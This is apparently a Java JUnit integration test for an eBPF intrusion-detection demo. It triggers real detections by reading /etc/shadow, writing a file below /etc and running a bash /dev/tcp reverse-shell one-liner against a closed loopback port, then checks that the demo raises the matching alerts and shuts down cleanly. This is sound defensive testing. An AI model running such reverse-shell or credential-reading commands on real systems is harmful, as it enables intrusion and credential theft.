package dev.eyrie.cli.demo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * `eyrie demo` driven as a user would: started from the project root, waited for until it says READY, then real
 * suspicious actions on this host, their alerts read off the demo's terminal output, Ctrl-C, and a check that
 * nothing it started is left running. Its own ports, so it starts (and must stop) its own Kafka and Elasticsearch.
 * Needs root and eBPF; under CI=true their absence fails the test.
 */
class DemoIT {
  private static final int KAFKA_PORT = 19592;
  private static final int ES_PORT = 19600;
  private static final Map<String, String> PORTS = Map.of(
      "EYRIE_KAFKA_PORT", Integer.toString(KAFKA_PORT), "EYRIE_ES_PORT", Integer.toString(ES_PORT));
  /** Safety nets against a hung demo on a loaded machine (ES alone can take a minute), not performance checks. */
  private static final Duration START_LIMIT = Duration.ofMinutes(8);
  private static final Duration ALERT_LIMIT = Duration.ofMinutes(5);
  private static final Duration STOP_LIMIT = Duration.ofMinutes(3);

  private static Path root;

  @BeforeAll
  static void requireLiveCapture() {
    String why = LiveCapture.unavailableReason();
    if (why != null) {
      if ("true".equals(System.getenv("CI"))) {
        fail("the demo test needs root and eBPF (CI has both): " + why);
      }
      Assumptions.abort("the demo test needs root and eBPF: " + why);
    }
    root = DemoPaths.root();
  }

  @Test
  void showsAlertsOfRealActionsAndCtrlCStopsEverythingItStarted() throws Exception {
    stopLeftovers();
    assertPortsClosed("before the demo");
    Path marker = Path.of("/etc/eyrie-demo-test-" + ProcessHandle.current().pid());
    List<ProcessHandle> children;
    try (DemoProcess demo = DemoProcess.start(root, PORTS, log("live"), List.of())) {
      String ready = demo.await("READY line", l -> l.startsWith(DemoCommand.READY), START_LIMIT);
      assertTrue(ready.contains("live eBPF capture"), ready);
      String out = demo.output();
      assertTrue(out.contains("kafka: starting"), "the demo should start its own Kafka:\n" + out);
      assertTrue(out.contains("elasticsearch: starting"), "the demo should start its own Elasticsearch:\n" + out);
      assertTrue(out.contains("topic eyrie.alerts at 127.0.0.1:" + KAFKA_PORT), out);
      assertTrue(out.contains("curl -s 'http://127.0.0.1:" + ES_PORT + "/eyrie-alerts/_search"), out);

      // 1: read the password database
      run("cat", "/etc/shadow");
      // 2: a file created below /etc, removed at once
      try {
        run("touch", marker.toString());
      } finally {
        Files.deleteIfExists(marker);
      }
      // 3: a reverse-shell command line (port 9 on loopback is closed: the connection fails, the exec happened)
      runAllowingFailure("bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1");

      demo.await("a 'Password or Sudo Database Read' row for cat",
          l -> l.contains("Password or Sudo Database Read") && l.contains("/etc/shadow") && l.contains(" cat "),
          ALERT_LIMIT);
      demo.await("a 'File Written Below /etc' row for " + marker,
          l -> l.contains("File Written Below /etc") && l.contains("file=" + marker), ALERT_LIMIT);
      demo.await("a 'Reverse Shell Command Line' row",
          l -> l.contains("Reverse Shell Command Line") && l.contains("/dev/tcp/127.0.0.1/9"), ALERT_LIMIT);

      children = ProcessHandle.of(demo.pid()).map(p -> p.descendants().toList()).orElse(List.of());
      demo.interrupt();
      int code = demo.awaitExit(STOP_LIMIT);
      out = demo.output();
      assertEquals(0, code, "exit code after Ctrl-C; output:\n" + out);
      assertTrue(out.contains("Stopping (SIGINT)"), out);
      assertTrue(out.contains("all delivered to Kafka"), "collector drained:\n" + out);
      assertTrue(out.contains("flink: MiniCluster closed"), out);
      assertTrue(out.contains("kafka: stopped"), out);
      assertTrue(out.contains("elasticsearch: stopped"), out);
    }
    for (ProcessHandle c : children) {
      assertFalse(c.isAlive(), "child process left running: " + c.pid() + " " + c.info().commandLine().orElse(""));
    }
    assertStopped("kafka");
    assertStopped("elasticsearch");
    assertPortsClosed("after the demo");
    assertEquals(List.of(), javaProcessesOfThisTest(), "java processes of the demo left running");
  }

  /**
   * Run 1 replays the bundled recording (--capture); run 2 runs without any capability, where the demo must say
   * why it cannot capture and replay the same recording by itself. Both reuse a Kafka they did not start and leave
   * it running; run 2 finds the topics and the same rules already there.
   */
  @Test
  void reusesRunningKafkaTopicsAndRulesAndWithoutPrivilegesReplaysTheBundledRecording() throws Exception {
    stopLeftovers();
    Path recording = Path.of(DemoCommand.class.getResource("demo-events.avro").toURI());
    List<String> noCapabilities = List.of("setpriv", "--bounding-set=-all", "--inh-caps=-all", "--");
    try {
      script("kafka", "start");
      for (int run = 1; run <= 2; run++) {
        List<String> wrapper = run == 1 ? List.of() : noCapabilities;
        String[] args = run == 1
            ? new String[] {"--no-elasticsearch", "--no-archive", "--capture", recording.toString()}
            : new String[] {"--no-elasticsearch", "--no-archive"};
        try (DemoProcess demo = DemoProcess.start(root, PORTS, log("reuse-" + run), wrapper, args)) {
          demo.await("READY line", l -> l.startsWith(DemoCommand.READY), START_LIMIT);
          // the recording's intrusion steps, replayed
          demo.await("a 'Remote Script Piped into Shell' row from the recording",
              l -> l.contains("Remote Script Piped into Shell") && l.contains(DemoRecordCommand.HOSTNAME), ALERT_LIMIT);
          demo.await("a 'Password or Sudo Database Read' row from the recording",
              l -> l.contains("Password or Sudo Database Read") && l.contains(DemoRecordCommand.HOSTNAME), ALERT_LIMIT);
          // the correlation job: curl wrote a file that was then run
          demo.await("an 'Eyrie Downloaded File Executed' sequence row from the recording",
              l -> l.contains("Eyrie Downloaded File Executed") && l.contains(DemoRecordCommand.HOSTNAME), ALERT_LIMIT);
          demo.interrupt();
          assertEquals(0, demo.awaitExit(STOP_LIMIT), demo.output());
          String out = demo.output();
          assertTrue(out.contains("kafka: reusing the server already running at 127.0.0.1:" + KAFKA_PORT), out);
          assertFalse(out.contains("kafka: stopped"), "a Kafka it did not start must be left running:\n" + out);
          if (run == 2) {
            assertTrue(out.contains("Topics: all exist"), out);
            assertTrue(out.contains("unchanged, ruleset sha256-"), "same rules must not be published again:\n" + out);
            assertTrue(out.contains("live capture is not possible here: the collector must run as root or with "
                + "capabilities CAP_BPF and CAP_PERFMON"), "without capabilities the demo must say why:\n" + out);
            assertTrue(out.contains("replaying instead a recording bundled with Eyrie"), out);
          }
        }
        assertEquals(0, script("kafka", "status"), "Kafka must still run after demo run " + run);
      }
    } finally {
      script("kafka", "stop");
    }
  }

  private static Path log(String name) {
    return root.resolve("cli").resolve("target").resolve("demo-it").resolve(name + ".log");
  }

  private static void run(String... cmd) throws IOException, InterruptedException {
    Process p = new ProcessBuilder(cmd).redirectOutput(ProcessBuilder.Redirect.DISCARD)
        .redirectError(ProcessBuilder.Redirect.DISCARD).start();
    assertEquals(0, p.waitFor(), String.join(" ", cmd));
  }

  private static void runAllowingFailure(String... cmd) throws IOException, InterruptedException {
    new ProcessBuilder(cmd).redirectOutput(ProcessBuilder.Redirect.DISCARD)
        .redirectError(ProcessBuilder.Redirect.DISCARD).start().waitFor();
  }

  /** Servers left on the test's ports by an earlier, aborted run would be reused and not stopped. */
  private static void stopLeftovers() throws IOException, InterruptedException {
    script("kafka", "stop");
    script("elasticsearch", "stop");
  }

  private static int script(String name, String action) throws IOException, InterruptedException {
    ProcessBuilder pb = new ProcessBuilder(root.resolve("scripts").resolve(name + ".sh").toString(), action)
        .directory(root.toFile()).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD);
    pb.environment().putAll(PORTS);
    return pb.start().waitFor();
  }

  private static void assertStopped(String name) throws IOException, InterruptedException {
    assertEquals(3, script(name, "status"), name + " on the test's port should be stopped (scripts/" + name
        + ".sh status exits 3 when stopped)");
  }

  private static void assertPortsClosed(String when) {
    for (int port : new int[] {KAFKA_PORT, KAFKA_PORT + 1, ES_PORT}) {
      try (Socket s = new Socket()) {
        s.connect(new InetSocketAddress("127.0.0.1", port), 1000);
        fail("port " + port + " is open " + when);
      } catch (IOException expected) {
        // refused: nothing listens
      }
    }
  }

  /** Java processes whose command line names this test's server directories or marks a demo of this test. */
  private static List<String> javaProcessesOfThisTest() throws IOException {
    List<String> found = new ArrayList<>();
    List<String> markers = List.of("/.eyrie/kafka/" + KAFKA_PORT + "/", "/.eyrie/elasticsearch/" + ES_PORT + "/",
        "-D" + DemoProcess.MARKER_PROPERTY + "=" + ProcessHandle.current().pid());
    try (Stream<Path> procs = Files.list(Path.of("/proc"))) {
      for (Path p : procs.filter(d -> d.getFileName().toString().chars().allMatch(Character::isDigit)).toList()) {
        String cmdline;
        try {
          cmdline = new String(Files.readAllBytes(p.resolve("cmdline")), StandardCharsets.UTF_8).replace('\0', ' ');
        } catch (IOException e) {
          continue; // exited meanwhile
        }
        if (cmdline.contains("java") && markers.stream().anyMatch(cmdline::contains)) {
          found.add(p.getFileName() + ": " + (cmdline.length() > 200 ? cmdline.substring(0, 200) : cmdline));
        }
      }
    }
    return found;
  }
}
